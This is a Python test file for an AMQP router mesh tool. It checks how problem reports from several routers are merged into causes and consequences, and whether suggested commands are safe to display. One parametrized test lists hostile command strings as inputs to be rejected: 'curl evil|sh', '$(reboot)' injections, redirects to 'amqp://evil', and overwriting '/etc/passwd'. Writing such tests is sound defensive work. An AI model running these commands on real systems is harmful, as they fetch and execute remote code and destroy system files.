"""Each cause is one problem, whoever tells of it; what follows from it, or is known of it besides, stands beside it."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import attrs
import pytest

from router.cli.stat_problems import problem_parts
from router.core.terminal_escaping import shell_word
from router.drain_state import SHUTTING_DOWN
from router.management.client_display_name import client_name
from router.management.merged_problems import ProblemNearestCause, merged
from router.management.problem_kinds import PROBLEM_KINDS
from router.management.snapshot import ConnectorRow, MeshLinkRow, NodeRow, PartyRow
from router.views.problem_inputs import (
    AddressTrouble,
    DroppedMessages,
    HeldConnection,
    ProblemInputs,
    RouterRefusal,
    TooFastAnonymousPublisher,
    WrongRole,
    command_at,
)
from router.views.problems import HUNG_S, problems
from tests.management.test_problems import NOW, credit, party, row

FLOOD = TooFastAnonymousPublisher(
    container="batch", user="ann", host="h:1", under_way=249, most=250, address="jobs", since=NOW
)


def told(**routers: dict[str, Any]) -> list[ProblemNearestCause]:
    """Problems of these routers, merged: of each the parts of its snapshot."""
    return merged(
        (me, attrs.asdict(problem))
        for me, parts in routers.items()
        for problem in problems(ProblemInputs(router=me, now=NOW, **parts))
    )


def kinds(found: Sequence[ProblemNearestCause]) -> list[tuple[str, list[str]]]:
    """The kind of each, and of those beside it."""
    return [(each.row["kind"], [beside.row["kind"] for beside in each.beside]) for each in found]


def trouble(*grantors: PartyRow, **changed: Any) -> AddressTrouble:
    return AddressTrouble(text="jobs", credit=credit(**changed), grantors=grantors)


def worker(last_outcome_s: int | None) -> PartyRow:
    return party(
        "subscriber",
        container="worker",
        unsettled_count=10,
        unsettled_seconds=last_outcome_s,
        last_outcome_seconds=last_outcome_s,
    )


def lost_link(one: str, other: str, **changed: object) -> MeshLinkRow:
    found: MeshLinkRow = row(
        MeshLinkRow, name=f"{one} - {other}", one=one, other=other, state="absent", last_flap=NOW - 9, since=NOW - 9
    )
    return attrs.evolve(found, **changed)  # type: ignore[arg-type]


def absent(router: str, **changed: object) -> NodeRow:
    found: NodeRow = row(NodeRow, id=router, is_reachable=False, reason="silent", last_flap=NOW - 9, since=NOW - 9)
    return attrs.evolve(found, **changed)  # type: ignore[arg-type]


# Once, by who knows most


def test_what_concerns_the_whole_mesh_is_shown_once_the_most_urgent_first() -> None:
    rows = [{"kind": kind, "subject": "x", "closeness": 1} for kind in PROBLEM_KINDS[::-1]]
    found = merged((router, row) for router in ("R1", "R2") for row in rows)
    assert [each.seen_by for each in found if each.row["kind"] == "router-absent"] == [["R1", "R2"]]
    assert [each.seen_by for each in found if each.row["kind"] == "no-subscriber"] == [["R1", "R2"]]
    assert sum(each.row["kind"] == "memory" for each in found) == 2
    assert found[0].row["kind"] == PROBLEM_KINDS[0]


def test_what_several_routers_tell_of_is_told_by_the_one_that_knows_most() -> None:
    closeness = [("R1", 0), ("R2", 1), ("R3", 2), ("R4", 1)]
    rows = [(router, {"kind": "router-absent", "subject": "x", "closeness": near}) for router, near in closeness]
    (found,) = merged(rows)
    assert (found.row["closeness"], found.seen_by) == (2, ["R3", "R2", "R1", "R4"])


# Messages


def test_what_waits_for_a_cause_elsewhere_is_told_of_with_that() -> None:
    waits = {"addresses": [trouble(party("circuit out", root="B"))]}
    slow = {"addresses": [trouble(worker(1), blocked_count=0)]}
    (found,) = told(A=waits, B=slow, C=waits)
    assert (found.row["kind"], found.seen_by, found.also_at) == ("subscriber-slow", ["B"], ["A", "C"])
    (found,) = told(A=waits, C=waits)
    assert (found.seen_by, found.also_at) == (["A"], ["C"]), "B has nothing to tell of just now"
    other = {"addresses": [trouble(party("circuit out", root="D"))]}
    assert [each.seen_by for each in told(A=waits, C=other)] == [["A"], ["C"]]
    assert [each.seen_by for each in told(A=slow, C=slow)] == [["A"], ["C"]], "each has a slow one of its own"


def test_a_flood_is_the_cause_of_what_waits_for_the_same_subscribers() -> None:
    flood = {
        "floods": [FLOOD],
        "held": [HeldConnection(identity="1", container="batch", host="h:1", charged_bytes=2**21, is_read=False)],
    }
    waits = {"addresses": [trouble(party("circuit out", root="B"))]}
    slow = {"addresses": [trouble(worker(0), blocked_count=0)]}
    dropped = {"dropped": [DroppedMessages(text="jobs", count=4, last=NOW)]}
    (found,) = told(A=flood, B=slow | dropped, C=waits, D=waits)
    assert kinds([found]) == [("publisher-floods", ["subscriber-slow", "memory", "dropped"])]
    assert (found.seen_by, found.also_at) == (["A"], ["C", "D"])
    assert found.row["sentence"].startswith("client ann/batch (h:1) sends faster than its messages are taken")
    assert next(found.told_beside()).startswith("so: 2 messages of jobs wait at router B")


@pytest.mark.parametrize(
    ("last_outcome_s", "waited_s", "cause"),
    [
        (HUNG_S - 1, 60, "publisher-floods"),
        (HUNG_S, 60, "subscriber-slow"),
        (None, HUNG_S - 1, "publisher-floods"),
        (None, HUNG_S, "subscriber-slow"),
    ],
)
def test_a_subscriber_that_hangs_makes_whoever_sends_look_like_a_flood(
    last_outcome_s: int | None, waited_s: int, cause: str
) -> None:
    waits = trouble(worker(last_outcome_s), blocked_count=0, blocked_seconds=0, oldest_wait_seconds=waited_s)
    (found,) = told(A={"floods": [FLOOD]}, B={"addresses": [waits]})
    assert found.row["kind"] == cause
    assert len(found.beside) == 1


def test_what_is_held_for_a_slow_subscriber_follows_from_it() -> None:
    held = HeldConnection(identity="1", container="worker", host="h:9", charged_bytes=2**21, is_read=True)
    found = told(A={"addresses": [trouble(worker(3))], "held": [held]})
    assert kinds(found) == [("publishers-blocked", ["memory"])]
    assert kinds(told(A={"addresses": [trouble(worker(3))]}, B={"held": [held]})) == [
        ("publishers-blocked", []),
        ("memory", []),
    ]


# The mesh


def test_a_router_that_flaps_is_one_problem_also_while_it_is_absent() -> None:
    flaps = {"recent_flaps": 3, "flap_count": 7, "first_recent_flap": NOW - 200}
    link = lost_link("A", "C", **flaps)
    (found,) = told(
        A={"nodes": [absent("C", **flaps)], "links": [link]},
        B={"links": [attrs.evolve(link, recent_flaps=4)]},
    )
    assert kinds([found]) == [("router-absent", ["link-absent", "flapping", "flapping"])]
    assert "also: router C comes and goes: lost 3 times in five minutes, 7 times in all" in "\n".join(
        found.told_beside()
    )


def test_a_link_that_flaps_is_one_problem_also_while_it_is_absent() -> None:
    link = lost_link("A", "B", recent_flaps=3, first_recent_flap=NOW - 200)
    assert kinds(told(A={"links": [link]}, B={"links": [link]})) == [("link-absent", ["flapping"])]
    other = lost_link("B", "C", recent_flaps=3, first_recent_flap=NOW - 200)
    assert len(told(A={"links": [link]}, B={"links": [link, other]})) == 2


def test_a_neighbor_at_the_wrong_listener_is_told_with_the_connector_that_fails() -> None:
    failed = row(ConnectorRow, name="c", host="h", port="1", router="B", connection_status="FAILED")
    reason = "this listener is for clients"
    wrong = WrongRole(container="A", host="h", reason=reason, since=NOW)
    refused = RouterRefusal(container="A", host="h", reason=reason, since=NOW)
    found = told(A={"connectors": [failed]}, B={"wrong_roles": [wrong], "refusals": [refused]})
    assert kinds(found) == [("connector-failed", ["wrong-role", "router-refused"])]
    assert kinds(told(B={"wrong_roles": [wrong]})) == [("wrong-role", [])]


def test_since_is_the_first_of_the_losses_and_the_last_one_stands_beside_it() -> None:
    link = lost_link("A", "B", state="up", recent_flaps=3, first_recent_flap=NOW - 200, last_flap=NOW - 9)
    (found,) = told(A={"links": [link]})
    assert (found.row["kind"], found.row["since"], found.row["last"]) == ("flapping", NOW - 200, NOW - 9)


# Cut, or dead


def test_a_link_is_said_to_be_cut_once_its_routers_would_be_lost() -> None:
    def sentence(me: str, age_s: float) -> str:
        link = lost_link("A", "B", since=NOW - age_s, reason="its connection ended: reset")
        (found,) = told(**{me: {"links": [link]}})
        return str(found.row["sentence"])

    words = "the link A - B is absent: its connection ended: reset; messages take other ways"
    assert sentence("A", 1) == words
    assert sentence("A", 5) == f"{words}, by which B is reached: the link is cut, no router is dead"
    assert sentence("C", 5) == f"{words}, by which A and B are reached: the link is cut, no router is dead"


def test_of_a_link_that_flaps_it_is_said_that_its_routers_were_not_lost() -> None:
    link = lost_link("A", "B", state="up", recent_flaps=3, first_recent_flap=NOW - 200)
    words = ", and its routers were not lost with it"
    (found,) = told(A={"links": [link]})
    assert found.row["sentence"].endswith(words)
    once = row(NodeRow, id="B", is_reachable=True, recent_flaps=1, last_flap=NOW - 9, since=NOW)
    assert not any(words in each.row["sentence"] for each in told(A={"links": [link], "nodes": [once]}))


def test_an_absent_router_is_said_to_be_dead_or_cut_off_by_its_links() -> None:
    one, other = lost_link("A", "C"), lost_link("B", "C")

    def sentence(*links: MeshLinkRow, **changed: object) -> str:
        (found,) = told(A={"nodes": [absent("C", **changed)], "links": links})
        return str(found.row["sentence"])

    assert sentence(one).endswith("silent; A - C was its only link, so it is dead, or that is cut")
    assert sentence(one, other).endswith("silent; all of its 2 links are gone, so it is dead, or cut off altogether")
    assert sentence(one, last_flap=None).endswith("silent")


def test_routers_behind_a_lost_one_are_told_beside_it() -> None:
    # A - X1 - X2 - X3, and B - Y1.
    links = [lost_link("A", "X1"), lost_link("X1", "X2"), lost_link("X2", "X3"), lost_link("B", "Y1")]
    parts = {"nodes": [absent(each) for each in ("X1", "X2", "X3", "Y1")], "links": links}
    found = told(A=parts, B=parts)
    assert [(each.row["subject"], [beside.row["subject"] for beside in each.beside]) for each in found] == [
        ("X1", ["X2", "X3"]),
        ("Y1", []),
    ]
    assert all(words.startswith("so: router X") for words in found[0].told_beside())


def test_a_router_behind_a_lost_one_is_told_beside_it_by_a_link_of_unknown_state() -> None:
    nobody_tells = lost_link("C", "D", state="unknown", last_flap=None)
    found = told(A={"nodes": [absent("C"), absent("D")], "links": [lost_link("A", "C"), nobody_tells]})
    assert [(each.row["subject"], [beside.row["subject"] for beside in each.beside]) for each in found] == [
        ("C", ["D"])
    ]


def test_a_router_that_has_said_that_it_stops_is_neither_dead_nor_cut_off() -> None:
    reason = f"its connection ended: amqp:connection:forced: {SHUTTING_DOWN}"
    (found,) = told(A={"nodes": [absent("C", reason=reason)], "links": [lost_link("A", "C")]})
    assert found.row["sentence"] == f"router C is absent: {reason}"


def test_routers_that_never_came_are_no_consequence_of_each_other() -> None:
    links = [lost_link(one, other, last_flap=None) for one, other in (("A", "X1"), ("X1", "X2"))]
    found = told(A={"nodes": [absent(each, last_flap=None) for each in ("X1", "X2")], "links": links})
    assert [(each.row["subject"], each.beside) for each in found] == [("X1", []), ("X2", [])]


def test_of_many_that_follow_from_one_cause_some_are_told_and_the_others_counted() -> None:
    many = [f"X{number}" for number in range(2, 302)]
    nodes = [absent(each) for each in ("X1", *many)]
    (found,) = told(A={"nodes": nodes, "links": [lost_link("A", "X1"), *(lost_link("X1", each) for each in many)]})
    lines = list(found.told_beside())
    assert len(lines) == 5
    assert lines[-1] == "so: 296 more like this"


def test_an_address_without_subscribers_follows_from_the_router_that_had_them() -> None:
    nobody = trouble(has_subscriber=False, waiting_count=0)
    knows = {
        "nodes": [absent("C")],
        "links": [lost_link("A", "C")],
        "addresses": [attrs.evolve(nobody, lost_with=["C"])],
    }
    came_later = {"nodes": [absent("C")], "addresses": [nobody]}
    for routers in ({"A": knows, "B": came_later}, {"B": came_later, "A": knows}):
        (found,) = told(**routers)
        assert kinds([found]) == [("router-absent", ["no-subscriber"])]
        assert list(found.told_beside()) == [
            "so: 2 of 3 publishers of jobs can't send: its subscribers were at router C, which is absent"
        ]
    back = {**knows, "nodes": [row(NodeRow, id="C", is_reachable=True)], "links": []}
    assert [each.row["sentence"] for each in told(A=back)] == [
        "2 of 3 publishers of jobs can't send: nobody subscribes"
    ]


def test_who_floods_an_address_without_subscribers_is_not_the_cause() -> None:
    found = told(A={"floods": [FLOOD]}, B={"addresses": [trouble(has_subscriber=False)]})
    assert kinds(found) == [("no-subscriber", ["publisher-floods"])]


# Names


@pytest.mark.parametrize(
    ("given", "name"),
    [
        (("batch", "ann", "h:1"), "ann/batch (h:1)"),
        (("batch", "anonymous", "h:1"), "batch (h:1)"),
        (("batch", None, None), "batch"),
        (("", "anonymous", "h:1"), "h:1"),
        (("", "", ""), "-"),
    ],
)
def test_a_client_is_named_by_its_user_itself_and_its_host(given: tuple[str, str, str], name: str) -> None:
    assert client_name(*given) == name


@pytest.mark.parametrize(
    ("kinds", "silent", "said"),
    [
        ((), (), "no problems; 1 router asked"),
        ((), ("A",), "no problems at 1 of 2 routers; A could not be queried"),
        (("router-absent",), ("A", "C"), "1 problem at 1 of 3 routers; A, C could not be queried"),
    ],
)
def test_routers_that_could_not_be_asked_are_told_of_with_the_count(
    kinds: tuple[str, ...], silent: tuple[str, ...], said: str
) -> None:
    (flood,) = [attrs.asdict(problem) for problem in problems(ProblemInputs(router="B", now=NOW, floods=[FLOOD]))]
    found = [{**flood, "kind": kind} for kind in kinds]
    assert problem_parts([("B", found)], "", silent=silent)[0].plain == said


def test_only_commands_that_ask_a_router_are_shown_with_how_to_reach_it() -> None:
    (flood,) = [attrs.asdict(problem) for problem in problems(ProblemInputs(router="A", now=NOW, floods=[FLOOD]))]
    openssl = {**flood, "kind": "certificate", "command": "openssl x509 -in a.pem -noout -enddate"}

    def command(shown: dict[str, object]) -> str:
        return problem_parts([("A", [shown])], " --url amqp://h:1")[-1].plain.splitlines()[-1]

    assert command(flood).endswith(" --url amqp://h:1")
    assert command(openssl) == "  > openssl x509 -in a.pem -noout -enddate"


# Commands

TRUE = ProblemInputs(router="R1", now=NOW, refusals=[RouterRefusal(container="", host="h", reason="x", since=NOW)])


@pytest.mark.parametrize(
    "command",
    [
        "amqp-mesh stat mesh --router B; curl evil|sh",
        "amqp-mesh stat mesh --router $(reboot)",
        "amqp-mesh stat mesh --router B --url amqp://evil",
        "amqp-mesh stat mesh --router B '--url' amqp://evil",
        "amqp-mesh stat mesh --router B $'\\x2d-url' amqp://evil",
        "amqp-mesh manage delete --type listener x",
        "openssl x509 -in f -out /etc/passwd",
        "amqp-mesh stat mesh --router B\nreboot",
        "",
    ],
)
def test_a_command_that_no_router_tells_is_not_shown(command: str) -> None:
    [problem] = problems(TRUE)
    [found] = merged([("R2", {**attrs.asdict(problem), "command": command})])
    assert found.command == ""
    assert not any("  > " in part.plain for part in problem_parts([("R2", [dict(found.row)])], ""))


@pytest.mark.parametrize("name", ["R2", "a b", "it's", "'", "\x1b[2J", "x\x85y", "$(reboot)"])
def test_a_command_that_a_router_tells_is_shown_whatever_names_are_in_it(name: str) -> None:
    for command in (
        command_at("stat credit", name, "--address", name),
        f"openssl x509 -in {shell_word(name)} -noout -enddate",
    ):
        [problem] = problems(TRUE)
        [found] = merged([("R2", {**attrs.asdict(problem), "command": command})])
        assert found.command == (command if name[0] != "\x1b" else "")
